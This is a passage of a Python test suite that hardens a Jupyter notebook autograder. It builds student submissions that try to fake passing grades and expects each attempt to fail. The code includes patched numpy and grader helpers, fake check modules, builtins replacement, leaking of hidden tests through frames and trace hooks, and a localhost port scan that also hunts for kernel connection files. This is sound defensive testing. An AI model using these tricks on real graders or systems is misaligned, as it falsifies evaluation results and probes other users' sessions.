def h20_patch_norm(ctx):
    """With the planted mlp_backward bug (grad_b not summed), a cell before test_mlp_backward replacing
    np.linalg.norm, np.abs, np.max and course_lib's relative_error so every difference looks like 0.

    The checks compare with references bound before student code ran: the
    submission loses exactly test_mlp_backward to its bug.
    """
    nb = insert_before(ctx.bug(L02, "mlp_backward"), "test_mlp_backward", code('''
        import course_lib.gradcheck
        import numpy
        import numpy.linalg

        numpy.linalg.norm = np.linalg.norm = lambda *args, **kwargs: 0.0
        numpy.abs = lambda x, *args, **kwargs: numpy.zeros(numpy.shape(x))
        numpy.max = lambda *args, **kwargs: 0.0
        course_lib.gradcheck.relative_error = lambda *args, **kwargs: 0.0
    '''))
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mlp_backward"))


@case(L02)
def h21_patch_checks(ctx):
    """With the planted mlp_forward bug, a cell before test_mlp_forward that rewrites the grader's
    helpers: ``checks.Cases.score``/``run`` (directly and through ``type.__setattr__``), and
    ``assert_close``/``assert_true``/``to_float64`` (as attributes and through the module ``__dict__``).

    grader.checks is not even importable in the kernel (the repository is
    hidden) and the checks run in the checker: the submission loses exactly
    test_mlp_forward to its bug.
    """
    nb = insert_before(ctx.bug(L02, "mlp_forward"), "test_mlp_forward", code('''
        from grader import checks


        def full_marks(self):
            return float(self.points)


        def always_passes(self, label, check):
            self._results.append((label, True, ""))
            return True


        attempts = {
            "Cases.score =": lambda: setattr(checks.Cases, "score", full_marks),
            "type.__setattr__(Cases, 'score')": lambda: type.__setattr__(checks.Cases, "score", full_marks),
            "type.__setattr__(Cases, 'run')": lambda: type.__setattr__(checks.Cases, "run", always_passes),
            "checks.assert_close =": lambda: setattr(checks, "assert_close", lambda *a, **k: None),
            "checks.__dict__['assert_close']": lambda: checks.__dict__.__setitem__("assert_close", lambda *a, **k: None),
            "checks.__dict__['assert_true']": lambda: checks.__dict__.__setitem__("assert_true", lambda *a, **k: None),
            "checks.__dict__['to_float64']": lambda: checks.__dict__.__setitem__("to_float64", lambda v, n: v),
        }
        for label, attempt in attempts.items():
            try:
                attempt()
                print("patched:", label)
            except Exception as exc:
                print(f"refused: {label}: {type(exc).__name__}")
    '''))
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mlp_forward"))


@case(L02)
def h22_fake_checks_module(ctx):
    """With the planted mse_loss bug, a cell before test_mse_loss that puts a fake ``grader.checks``
    (every case passes, every assertion a no-op) into ``sys.modules`` and onto the ``grader`` package.

    The checker imports its own grader.checks, never the kernel's: the
    submission loses exactly test_mse_loss to its bug.
    """
    nb = insert_before(ctx.bug(L02, "mse_loss"), "test_mse_loss", code('''
        import sys
        import types

        import grader
        import grader.checks as real_checks

        fake = types.ModuleType("grader.checks")
        fake.__dict__.update({k: v for k, v in vars(real_checks).items() if not k.startswith("__")})


        class Cases:
            def __init__(self, name, points):
                self.points = points

            def run(self, label, check):
                return True

            def score(self):
                print("all checks passed")
                return float(self.points)


        fake.Cases = Cases
        for helper in ("assert_close", "assert_true", "assert_gradient"):
            setattr(fake, helper, lambda *args, **kwargs: None)
        sys.modules["grader.checks"] = fake
        try:
            grader.checks = fake
        except Exception as exc:
            print(f"grader.checks = fake refused: {type(exc).__name__}")
            grader.__dict__["checks"] = fake
    '''))
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mse_loss"))


@case(L02, allowed={"kernel-died"})
def h23_patch_builtins(ctx):
    """With the planted mse_grad bug: a cell before test_mse_grad replaces ``print``, ``round`` and
    ``AssertionError`` in builtins, and mse_grad itself replaces ``builtins.isinstance`` (anything
    passes as an ndarray; other checks stay real, so the kernel's own messaging is not broken at
    random moments, which made this case flaky) and ``builtins.AssertionError`` each time it is
    called (so while it is being checked).

    The checks run in the grader's checker, whose builtins the kernel cannot
    reach: test_mse_grad is lost to the bug.  The patched ``isinstance`` outlives
    the call and breaks the kernel's own agent when it encodes mlp_backward's
    answer (a list looks like an ndarray), so test_mlp_backward and test_weight_decay are lost
    too: the tampering only costs the student.  (The lesson's
    demo cell after the last grade cell calls mse_grad too; the patched
    ``isinstance`` then outlives that cell and may crash the kernel's own
    messaging, hence ``kernel-died`` is allowed: no grade cell comes after it.)
    """
    nb = append_to(ctx.bug(L02, "mse_grad"), "mse_grad", '''
        import builtins as _builtins

        _mse_grad_honest = mse_grad
        _real_isinstance = _builtins.isinstance


        def mse_grad(y_hat, y):
            """My mse_grad; while it runs, anything is an ndarray and assertions are a harmless class."""
            import builtins
            builtins.isinstance = lambda obj, kind: True if kind is np.ndarray else _real_isinstance(obj, kind)
            builtins.AssertionError = type("AssertionError", (Exception,), {})
            return _mse_grad_honest(y_hat, y)
    ''')
    nb = insert_before(nb, "test_mse_grad", code('''
        import builtins

        builtins.AssertionError = type("AssertionError", (Warning,), {})
        builtins.round = lambda x, *args: 2.0
        builtins.print = lambda *args, **kwargs: None
    '''))
    return ctx.notebook(L02, nb, ctx.minus(L02, ["test_mse_grad", "test_mlp_backward", "test_weight_decay"]))


@case(L02)
def h24_always_equal(ctx):
    """With the planted mse_loss bug, mse_loss returns a float subclass that equals anything, is never
    smaller or larger, and whose differences and absolute values are 0.

    The checks read the result as a plain float64: the submission loses
    exactly test_mse_loss to its bug.
    """
    nb = append_to(ctx.bug(L02, "mse_loss"), "mse_loss", '''
        class AlwaysEqual(float):
            """A number that agrees with every comparison."""

            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            def __lt__(self, other):
                return False

            def __gt__(self, other):
                return False

            def __le__(self, other):
                return True

            def __ge__(self, other):
                return True

            def __sub__(self, other):
                return AlwaysEqual(0.0)

            __rsub__ = __sub__

            def __abs__(self):
                return AlwaysEqual(0.0)

            __hash__ = float.__hash__


        _mse_loss_honest = mse_loss


        def mse_loss(y_hat, y):
            return AlwaysEqual(_mse_loss_honest(y_hat, y))
    ''')
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mse_loss"))


@case(L02)
def h25_ndarray_liar(ctx):
    """With the planted mlp_forward bug, mlp_forward returns y_hat and every cached array as an ndarray
    subclass whose ==, -, ufuncs (subtract, isclose...) and numpy functions (allclose, array_equal)
    report "no difference".

    The checks read arrays through a base-class view of their memory: the
    submission loses exactly test_mlp_forward to its bug.
    """
    nb = append_to(ctx.bug(L02, "mlp_forward"), "mlp_forward", '''
        class Agreeable(np.ndarray):
            """An array that matches whatever it is compared with."""

            def __eq__(self, other):
                return np.ones(self.shape, dtype=bool)

            def __ne__(self, other):
                return np.zeros(self.shape, dtype=bool)

            def __sub__(self, other):
                return np.zeros(self.shape)

            __rsub__ = __sub__

            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                if method == "__call__" and ufunc is np.subtract:
                    return np.zeros(np.broadcast(*inputs).shape)
                if method == "__call__" and ufunc in (np.equal, np.less_equal, np.greater_equal):
                    return np.ones(np.broadcast(*inputs).shape, dtype=bool)
                plain = [x.view(np.ndarray) if isinstance(x, Agreeable) else x for x in inputs]
                return getattr(ufunc, method)(*plain, **kwargs)

            def __array_function__(self, func, types, args, kwargs):
                if func in (np.allclose, np.array_equal, np.array_equiv):
                    return True
                if func is np.isclose:
                    return np.ones(np.broadcast(*args[:2]).shape, dtype=bool)
                return super().__array_function__(func, types, args, kwargs)


        _mlp_forward_honest = mlp_forward


        def mlp_forward(X, Ws, bs, activation="sigmoid"):
            y_hat, cache = _mlp_forward_honest(X, Ws, bs, activation)
            cache["A"] = [np.asarray(a).view(Agreeable) for a in cache["A"]]
            cache["Z"] = [np.asarray(z).view(Agreeable) for z in cache["Z"]]
            return np.asarray(y_hat).view(Agreeable), cache
    ''')
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mlp_forward"))


@case(L02)
def h26_reseed(ctx):
    """With the planted mse_loss bug, the student guesses that the check draws its inputs from numpy's
    global generator: a cell before test_mse_loss seeds ``np.random`` and ``random`` with 0, pins
    ``np.random.default_rng`` to seed 0, precomputes the right answers for the inputs that seed
    gives, and wraps mse_loss to return them when asked (reseeding again on every call).

    The checks draw from their own generator, so the lookup never hits and
    the buggy code answers: the submission loses exactly test_mse_loss.
    """
    nb = insert_before(ctx.bug(L02, "mse_loss"), "test_mse_loss", code('''
        import random

        np.random.seed(0)
        random.seed(0)
        _original_default_rng = np.random.default_rng
        np.random.default_rng = lambda seed=None: _original_default_rng(0)
        _PRECOMPUTED = {}
        for _source in (np.random.RandomState(0), _original_default_rng(0)):
            for _B, _d in [(1, 1), (5, 3), (1, 4), (32, 1), (7, 2)]:
                _y_hat, _y = _source.uniform(-2, 2, (_B, _d)), _source.uniform(-2, 2, (_B, _d))
                _PRECOMPUTED[np.round(_y_hat, 8).tobytes()] = float(0.5 * np.sum((_y_hat - _y) ** 2) / _B)
        _mse_loss_honest = mse_loss


        def mse_loss(y_hat, y):
            np.random.seed(0)
            random.seed(0)
            key = np.round(np.asarray(y_hat, dtype=float), 8).tobytes()
            if key in _PRECOMPUTED:
                return _PRECOMPUTED[key]
            return _mse_loss_honest(y_hat, y)


        np.random.seed(0)
        random.seed(0)
    '''))
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mse_loss"))


@case(L02)
def h27_delegation(ctx):
    """The mlp_forward solution cell is ``from course_lib.mlp import mlp_forward``: course_lib's reference
    as the answer.

    In the grading kernel course_lib's mlp_forward is a stub that raises
    ReferenceUnavailable, so test_mlp_forward fails (no note: delegation is
    decided by running): full marks minus the grade cells of mlp_forward in
    references.json; the other exercises are the student's own and keep their points.
    """
    nb = ctx.complete(L02)
    nb.cells[_index(nb, "mlp_forward")].source = (
        "from course_lib.mlp import mlp_forward  # already written for us, why write it again\n")
    return ctx.notebook(L02, nb, ctx.delegated(L02, "mlp_forward"))


@case(L04)
def h28_delegation_subclass(ctx):
    """Lesson 04: the SGD solution cell subclasses course_lib's SGD and adds nothing.

    Every method of the stubbed course_lib SGD raises ReferenceUnavailable in
    the grading kernel, so test_sgd fails: full marks minus the grade cells of
    sgd in references.json.
    """
    nb = ctx.complete(L04)
    nb.cells[_index(nb, "sgd")].source = code('''
        import course_lib.optim as _optim


        class SGD(_optim.SGD):
            """Plain gradient descent (the library's)."""
    ''')
    return ctx.notebook(L04, nb, ctx.delegated(L04, "sgd"))


@case(L02)
def h29_display_formatter(ctx):
    """With the planted mlp_forward bug, a cell before test_mlp_forward registers an IPython text/plain
    printer that shows every float as "full marks" (stock nbgrader gives full points for a result
    that is not a number) and sets ``%precision``.

    The grade cell's result is written by the checker, not formatted by the
    kernel: the submission loses exactly test_mlp_forward to its bug.
    """
    nb = insert_before(ctx.bug(L02, "mlp_forward"), "test_mlp_forward", code('''
        ip = get_ipython()
        plain = ip.display_formatter.formatters["text/plain"]
        plain.for_type(float, lambda value, printer, cycle: printer.text("full marks"))
        ip.run_line_magic("precision", "0")
    '''))
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mlp_forward"))


@case(L02)
def h30_kernel_hooks(ctx):
    """With the planted mlp_backward bug, a cell right before test_mlp_backward registers IPython hooks:
    pre_execute / pre_run_cell callbacks and an input transformer that print the next cell's source
    (hidden tests), and an AST transformer that rewrites ``cases.score()`` into full points.

    The grade cell never runs in the kernel (its source is never sent there):
    the hooks see only the checker's silent protocol requests and the
    submission loses exactly test_mlp_backward to its bug.
    """
    nb = insert_before(ctx.bug(L02, "mlp_backward"), "test_mlp_backward", code('''
        import ast

        ip = get_ipython()


        def leak(info=None):
            print("pre_run_cell saw:", getattr(info, "raw_cell", ""))


        def leak_lines(lines):
            print("input transformer saw:", "".join(lines))
            return lines


        class FullPoints(ast.NodeTransformer):
            def visit_Call(self, node):
                self.generic_visit(node)
                func = node.func
                if isinstance(func, ast.Attribute) and func.attr == "score":
                    points = ast.Attribute(value=func.value, attr="points", ctx=ast.Load())
                    return ast.copy_location(ast.Call(ast.Name("float", ast.Load()), [points], []), node)
                return node


        ip.events.register("pre_run_cell", leak)
        ip.events.register("pre_execute", lambda: print("pre_execute hook ran"))
        ip.input_transformers_cleanup.append(leak_lines)
        ip.ast_transformers.append(FullPoints())
    '''))
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mlp_backward"))


# ================================================================== edited structure
@case(L02, notes={"repaired"})
def h31_deleted_grade_cell(ctx):
    """A complete submission with the grade cell test_mse_grad deleted.

    The cell is put back from the source and graded; the answer is right:
    full marks.
    """
    nb = ctx.complete(L02)
    del nb.cells[_index(nb, "test_mse_grad")]
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L02, notes={"repaired"})
def h32_edited_test_cell(ctx):
    """With the planted mse_loss bug, the grade cell test_mse_loss is rewritten to print a pass and
    return 1.0.

    The cell is restored from the source and fails on the bug: the
    submission loses exactly test_mse_loss.
    """
    nb = ctx.bug(L02, "mse_loss")
    nb.cells[_index(nb, "test_mse_loss")].source = 'print("mse_loss: 5/5 checks passed -> 1 of 1 points")\n1.0'
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mse_loss"))


@case(L02, notes={"repaired"})
def h33_changed_points(ctx):
    """With the planted mse_loss bug, the points in the metadata are changed: test_mse_loss 1 -> 0 and
    test_mlp_forward 3 -> 4 (so the failing cell would weigh nothing).

    Points come from the source: the submission loses exactly test_mse_loss.
    """
    nb = ctx.bug(L02, "mse_loss")
    nb.cells[_index(nb, "test_mse_loss")].metadata.nbgrader["points"] = 0
    nb.cells[_index(nb, "test_mlp_forward")].metadata.nbgrader["points"] = 4
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mse_loss"))


@case(L02, notes={"repaired"})
def h34_changed_grade_id(ctx):
    """With the planted mse_grad bug, the grade cell test_mse_grad gets another grade_id and a body that
    just returns 2.0.

    The original cell is missing, so it is put back from the source and
    fails on the bug; the renamed cell earns nothing: the submission loses
    exactly test_mse_grad.
    """
    nb = ctx.bug(L02, "mse_grad")
    cell = nb.cells[_index(nb, "test_mse_grad")]
    cell.metadata.nbgrader["grade_id"] = "test_mse_grad_improved"
    cell.source = "2.0"
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mse_grad"))


@case(L02, notes={"repaired"})
def h35_retyped_grade_cell(ctx):
    """A complete submission whose grade cell test_mse_loss was turned into a markdown cell.

    It is restored as code from the source and passes: full marks.
    """
    nb = ctx.complete(L02)
    at = _index(nb, "test_mse_loss")
    old = nb.cells[at]
    md = new_markdown_cell(old.source)
    md.metadata = copy.deepcopy(old.metadata)
    nb.cells[at] = md
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L02, allowed={"repaired"})
def h36_extra_grade_cell(ctx):
    """With the planted mse_loss bug, a new cell that claims to be a grade cell ("bonus", 100 points)
    returning 100.0.

    Only the lesson's grade cells count: the submission loses exactly
    test_mse_loss and the bonus earns nothing.
    """
    nb = insert_before(ctx.bug(L02, "mse_loss"), "test_mse_loss", "100.0")
    cell = nb.cells[_index(nb, "test_mse_loss") - 1]
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "grade_id": "bonus",
                                 "points": 100, "schema_version": 3, "task": False}
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mse_loss"))


@case(L02, notes={"repaired"})
def h37_changed_kernelspec(ctx):
    """A complete submission whose kernelspec and language_info say R.

    The grader runs its own Python kernel and restores the kernelspec: full marks.
    """
    nb = ctx.complete(L02)
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    nb.metadata["language_info"] = {"name": "R"}
    return ctx.notebook(L02, nb, ctx.full(L02))


# ================================================================== the file itself
@case(L02, notes={"unreadable"})
def h38_invalid_json(ctx):
    """The first half of a complete notebook's JSON (a truncated upload): cannot be read, 0 points."""
    text = nb_bytes(ctx.complete(L02))
    return Built({f"{L02}.ipynb": text[: len(text) // 2]}, 0.0)


@case(L02, notes={"unreadable"})
def h39_empty_file(ctx):
    """An empty file named like the lesson: nothing to grade, 0 points."""
    return Built({f"{L02}.ipynb": b""}, 0.0)


@case(L02, notes={"unreadable"})
def h40_not_a_notebook(ctx):
    """Valid JSON that is not a notebook (its cells are a string): cannot be graded, 0 points."""
    return Built({f"{L02}.ipynb": json.dumps({"cells": "all my answers", "nbformat": 4}).encode()}, 0.0)


#: Size of the huge submission (bytes).
HUGE_BYTES = 100 * 2**20


@case(L02, notes={"too-large"})
def h41_huge_file(ctx):
    """A complete notebook padded to 100 MiB by a raw cell: over the size limit, not opened, 0 points."""
    nb = ctx.complete(L02)
    base = len(nb_bytes(nb))
    nb.cells.append(new_raw_cell("x" * (HUGE_BYTES - base)))
    data = nb_bytes(nb)
    assert len(data) >= HUGE_BYTES
    return Built({f"{L02}.ipynb": data}, 0.0)


@case(L02, notes={"renamed"})
def h42_renamed(ctx):
    """A complete notebook handed in as ``02_general_case-Copy1.ipynb`` (the only notebook in the folder).

    It is graded as the lesson's notebook: full marks.
    """
    return ctx.notebook(L02, ctx.complete(L02), ctx.full(L02), name=f"{L02}-Copy1.ipynb")


@case(L02, notes={"missing"})
def h43_missing_notebook(ctx):
    """A lesson folder without any notebook (answers pasted into a .py file and a note): 0 points."""
    return Built({"answers.py": b"def mlp_forward(X, Ws, bs):\n    return X\n", "README.txt": b"see answers.py\n"}, 0.0)


# ================================================================== output
@case(L02, allowed={"output-truncated"})
def h44_output_flood_lines(ctx):
    """A scratch cell before test_mse_loss printing ten million lines (~79 MB).

    One message of that size is over the worker's 32 MiB limit and is dropped (a smaller flood is
    cut with a marker); either way the notebook stays small and grades are untouched: full marks.
    """
    nb = insert_before(ctx.complete(L02), "test_mse_loss", 'print("\\n".join(map(str, range(10**7))))')
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L02, allowed={"output-truncated"})
def h45_output_flood_bytes(ctx):
    """A scratch cell before test_mse_grad printing one line of 50 million characters.

    The message is over the worker's 32 MiB limit and is dropped: the notebook stays small and
    grades are untouched: full marks.
    """
    nb = insert_before(ctx.complete(L02), "test_mse_grad", 'print("x" * 50_000_000)')
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L02)
def h46_stderr_in_grade_cell(ctx):
    """A complete submission whose mse_loss, each time it is called (so while it is checked), writes
    debugging lines to stderr: through a ``logging`` handler and a saved reference to the notebook's
    stderr stream (both reach the grade cell's output: the checks only redirect ``sys.stderr``), and
    through ``warnings.warn``, ``print(file=sys.stderr)``, ``sys.__stderr__`` and fd 2.

    The grade cell's outputs are written by the checker, so none of these lines
    reaches test_mse_loss (no ``stderr`` note); the answer is right: full marks.
    """
    nb = append_to(ctx.complete(L02), "mse_loss", '''
        import logging
        import sys

        _debug_log = logging.getLogger("my_mse_loss")
        _debug_log.addHandler(logging.StreamHandler(sys.stderr))
        _debug_log.propagate = False
        _notebook_stderr = sys.stderr
        _mse_loss_quiet = mse_loss


        def mse_loss(y_hat, y):
            import os
            import warnings
            _debug_log.warning("debug: mse_loss called (logging)")
            print("debug: mse_loss called (saved stderr)", file=_notebook_stderr, flush=True)
            warnings.warn("debug: mse_loss called (warnings)")
            print("debug: mse_loss called (sys.stderr)", file=sys.stderr)
            print("debug: mse_loss called (sys.__stderr__)", file=sys.__stderr__, flush=True)
            os.write(2, b"debug: mse_loss called (fd 2)\\n")
            return _mse_loss_quiet(y_hat, y)
    ''')
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L02, allowed={"output-truncated"})
def h47_stderr_thread(ctx):
    """A complete submission that starts a background thread writing a line to the notebook's stderr
    stream every 50 ms for the rest of the notebook, so it lands in whichever cell runs (grade cells
    too, whenever they take longer than that).

    Stderr never costs points: full marks.
    """
    nb = insert_after_imports(ctx.complete(L02), code('''
        import sys
        import threading
        import time

        stream = sys.stderr


        def chatter():
            while True:
                print("background thread: still here", file=stream, flush=True)
                time.sleep(0.05)


        threading.Thread(target=chatter, daemon=True).start()
    '''))
    return ctx.notebook(L02, nb, ctx.full(L02))


# ================================================================== the trusted checker and the isolated kernel
#: Printed by h51's event hooks in place of a grade cell's result (must never reach a grade cell).
FORGED_SCORE = "forged by a hook: all checks passed"
#: In h55's HTML, scripts and event handlers (assembled at run time, so no source contains a tag).
XSS_MARKER = "hostile-xss"
#: World-writable folders h57 writes into (every one is a private tmpfs of the kernel).
WORLD_WRITABLE = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")


def leftover_paths(ctx) -> list[str]:
    """The host paths h57 tries to leave behind (named after this run's trap folder: unique per run)."""
    return [f"{d}/{ctx.trap.name}-h57-leftover.txt" for d in WORLD_WRITABLE]


def hidden_hashes(ctx, lesson: str) -> list[str]:
    """sha256 of each hidden-test line of ``lesson``: a payload can recognise them without containing them."""
    lines = secret_lines(ctx.lessons[lesson].source, kinds=("hidden",))
    assert lines, f"{lesson} has no hidden tests"
    return sorted(hashlib.sha256(line.encode()).hexdigest() for line in lines)


#: The part of a snooping payload that recognises hidden-test lines by hash (its source holds none of them).
SNOOP_HELPERS = '''
import hashlib as _hashlib

_HIDDEN = set(@HASHES@)
_FINDINGS = []


def _looks_hidden(text):
    """Hidden-test lines (by hash) in ``text``, and the delimiters of hidden regions."""
    if not isinstance(text, str):
        return []
    hits = [line.strip() for line in text.splitlines()
            if _hashlib.sha256(line.strip().encode()).hexdigest() in _HIDDEN]
    if ("BEGIN " + "HIDDEN") in text or ("END " + "HIDDEN") in text:
        hits.append("a hidden-region delimiter")
    return hits
'''


def snoop_code(body: str, **values) -> str:
    """:data:`SNOOP_HELPERS` followed by ``body`` (dedented), placeholders filled as :func:`code` does."""
    return code(SNOOP_HELPERS + "\n" + textwrap.dedent(body).strip("\n"), **values)


@case(L02)
def h48_caller_frames(ctx):
    """With the planted mse_loss bug, mse_loss walks its callers' frames (``sys._getframe(1)`` upwards,
    ``inspect.stack()``) for locals named like an expected value, returns the first one it finds, and
    records every frame; a cell after test_mse_loss prints the frames and flags any frame of the
    grade cell or of grader.checks, or any hidden-test line in their locals.

    Its callers are only the kernel's protocol agent: nothing expected is there, the buggy value is
    returned, the submission loses exactly test_mse_loss.
    """
    nb = append_to(ctx.bug(L02, "mse_loss"), "mse_loss", snoop_code('''
        import inspect as _inspect
        import sys as _sys

        _FRAMES = []
        _mse_loss_honest = mse_loss


        def mse_loss(y_hat, y):
            frame, depth, stolen = _sys._getframe(1), 0, None
            while frame is not None and depth < 60:
                _FRAMES.append((frame.f_code.co_filename, frame.f_code.co_name))
                for name, value in list(frame.f_locals.items()):
                    _FINDINGS.extend(_looks_hidden(value))
                    if stolen is None and name.lower() in ("expected", "want", "wanted", "reference", "ref", "truth"):
                        try:
                            stolen = float(value)
                        except Exception:
                            pass
                frame, depth = frame.f_back, depth + 1
            for info in _inspect.stack():
                _FRAMES.append((info.filename, info.function))
                _FINDINGS.extend(_looks_hidden("".join(info.code_context or [])))
            return stolen if stolen is not None else _mse_loss_honest(y_hat, y)
    ''', HASHES=hidden_hashes(ctx, L02)))
    nb = insert_after(nb, "test_mse_loss", code('''
        @OK@
        seen = sorted(set(_FRAMES))
        print(len(seen), "distinct caller frames:")
        for filename, function in seen[:60]:
            print(" ", filename, function)
        for filename, function in seen:
            if "grade cell" in filename or "checks" in filename or function.startswith("check_"):
                print(ATTACK_OK, "a frame of the checks:", filename, function)
        if _FINDINGS:
            print(ATTACK_OK, "hidden-test text in the callers:", _FINDINGS[:5])
    '''))
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mse_loss"))


@case(L02)
def h49_trace_hooks(ctx):
    """With the planted mse_grad bug, a cell before test_mse_grad installs ``sys.settrace``,
    ``sys.setprofile`` (and the ``threading`` versions) hooks that record every function called,
    with the hidden-test lines they see in its locals; a cell after test_mse_grad removes them and
    reports any grade-cell or grader.checks frame.

    The check runs in the checker: the hooks see only the agent, the submission loses exactly
    test_mse_grad to its bug.
    """
    nb = insert_before(ctx.bug(L02, "mse_grad"), "test_mse_grad", snoop_code('''
        import sys
        import threading

        _CALLED = {}


        def _tracer(frame, event, arg):
            if event == "call":
                key = (frame.f_code.co_filename, frame.f_code.co_name)
                if key not in _CALLED:
                    _CALLED[key] = 0
                    for value in list(frame.f_locals.values()):
                        _FINDINGS.extend(_looks_hidden(value))
                _CALLED[key] += 1
            return None


        def _profiler(frame, event, arg):
            if event == "call":
                _tracer(frame, event, arg)


        threading.settrace(_tracer)
        threading.setprofile(_profiler)
        sys.settrace(_tracer)
        sys.setprofile(_profiler)
    ''', HASHES=hidden_hashes(ctx, L02)))
    nb = insert_after(nb, "test_mse_grad", code('''
        import sys
        import threading

        sys.settrace(None)
        sys.setprofile(None)
        threading.settrace(None)
        threading.setprofile(None)
        @OK@
        print(len(_CALLED), "distinct functions traced; the agent's:",
              sorted(f for (path, f) in _CALLED if "protocol" in path)[:10])
        for (filename, function), count in sorted(_CALLED.items()):
            if "grade cell" in filename or "grader/checks" in filename:
                print(ATTACK_OK, "traced a frame of the checks:", filename, function, count)
        if _FINDINGS:
            print(ATTACK_OK, "hidden-test text in traced locals:", _FINDINGS[:5])
    '''))
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mse_grad"))


@case(L02)
def h50_import_hooks(ctx):
    """With the planted mlp_forward bug, a cell before test_mlp_forward fakes ``grader.checks`` through
    the import machinery: a ``sys.meta_path`` finder first in line that serves a fake module (every
    case passes, every helper a no-op) for ``grader.checks*``, a replaced ``builtins.__import__``
    doing the same, and the fake in ``sys.modules``.

    The checker imports its own checks in the grader's process: the submission loses exactly
    test_mlp_forward to its bug.
    """
    nb = insert_before(ctx.bug(L02, "mlp_forward"), "test_mlp_forward", code('''
        import builtins
        import importlib.abc
        import importlib.machinery
        import sys
        import types


        def _fake_checks(name):
            module = types.ModuleType(name)

            class Cases:
                def __init__(self, *args, **kwargs):
                    self.points = kwargs.get("points", args[1] if len(args) > 1 else 1)

                def run(self, *args, **kwargs):
                    return True

                def score(self):
                    print("all checks passed")
                    return float(self.points)

            module.Cases = Cases
            module.__path__ = []
            module.__getattr__ = lambda attr: (lambda *args, **kwargs: None)
            return module


        class FakeChecks(importlib.abc.MetaPathFinder, importlib.abc.Loader):
            def find_spec(self, fullname, path=None, target=None):
                if fullname == "grader.checks" or fullname.startswith("grader.checks."):
                    return importlib.machinery.ModuleSpec(fullname, self, is_package=True)
                return None

            def create_module(self, spec):
                return _fake_checks(spec.name)

            def exec_module(self, module):
                pass


        sys.meta_path.insert(0, FakeChecks())
        _real_import = builtins.__import__


        def _import(name, globals=None, locals=None, fromlist=(), level=0):
            if name == "grader.checks" or name.startswith("grader.checks."):
                module = sys.modules.setdefault(name, _fake_checks(name))
                return module if fromlist else _real_import("grader", globals, locals, (), level)
            return _real_import(name, globals, locals, fromlist, level)


        builtins.__import__ = _import
        for name in ("grader.checks", "grader.checks.lesson02", "grader.checks.student"):
            sys.modules[name] = _fake_checks(name)
        from grader.checks import Cases

        print("grader.checks is now", sys.modules["grader.checks"], Cases)
    '''))
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mlp_forward"))


@case(L02)
def h51_ipython_events(ctx):
    """With the planted mlp_backward bug, a cell before test_mlp_backward registers IPython event hooks
    (``post_run_cell``, ``post_execute``, ``pre_run_cell``) that call ``IPython.display.clear_output``
    and print and display a forged passing result, and clears its own output.

    The grade cell's outputs are written by the checker: no forged text reaches a grade cell, and
    the submission loses exactly test_mlp_backward to its bug.
    """
    nb = insert_before(ctx.bug(L02, "mlp_backward"), "test_mlp_backward", code('''
        from IPython.display import clear_output, display

        ip = get_ipython()
        FORGED = @FORGED@


        def forge(*args):
            clear_output()
            print(FORGED)
            display({"text/plain": "3.0", "text/html": "<b>" + FORGED + "</b>"}, raw=True)


        ip.events.register("post_run_cell", forge)
        ip.events.register("post_execute", forge)
        ip.events.register("pre_run_cell", lambda *args: clear_output(wait=True))
        clear_output()
    ''', FORGED=FORGED_SCORE))
    return ctx.notebook(L02, nb, ctx.minus_bug(L02, "mlp_backward"))


@case(L02)
def h52_cross_kernel_sockets(ctx):
    """A complete submission plus a cell that looks for other kernels: connects to every TCP port of
    127.0.0.1, then walks /tmp, /var/tmp, /dev/shm, /run and the folders around its working
    directory for jupyter connection files and ipc sockets that are not its own, reads and connects
    to them.

    No network (its own namespace, loopback down) and nobody else's files in view: every step
    fails, full marks.
    """
    nb = insert_after_imports(ctx.complete(L02), code('''
        import os
        import socket
        import stat

        @OK@
        own = os.path.realpath(os.getcwd())
        reached = []
        for port in range(1, 65536):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(0.05)
            try:
                s.connect(("127.0.0.1", port))
                reached.append(port)
            except OSError:
                pass
            finally:
                s.close()
        print(f"TCP scan done: {len(reached)} ports of 127.0.0.1 reachable")
        if reached:
            print(ATTACK_OK, "tcp", reached[:20])

        roots = ["/tmp", "/var/tmp", "/dev/shm", "/run", os.path.dirname(own), os.path.dirname(os.path.dirname(own))]
        looked = 0
        for root in roots:
            for dirpath, dirnames, filenames in os.walk(root):
                if dirpath.count("/") - root.count("/") > 4:
                    dirnames[:] = []
                for name in filenames:
                    path = os.path.join(dirpath, name)
                    if os.path.realpath(path).startswith(own + "/"):
                        continue
                    looked += 1
                    try:
                        mode = os.lstat(path).st_mode
                    except OSError:
                        continue
                    kernelish = "kernel" in path or "ipc" in name or "/nb-" in path
                    if stat.S_ISSOCK(mode) and kernelish:
                        u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                        u.settimeout(0.5)
                        try:
                            u.connect(path)
                            print(ATTACK_OK, "connected to", path)
                        except OSError as exc:
                            print("socket refused:", path, type(exc).__name__)
                        finally:
                            u.close()
                    elif name.startswith("kernel-") and name.endswith(".json"):
                        try:
                            with open(path) as f:
                                if "key" in f.read():
                                    print(ATTACK_OK, "read a connection file", path)
                        except OSError as exc:
                            print("connection file refused:", path, type(exc).__name__)
        print(f"file scan done: {looked} files looked at")
    '''))
    return ctx.notebook(L02, nb, ctx.full(L02))


@case(L02, allowed={"processes-killed"})
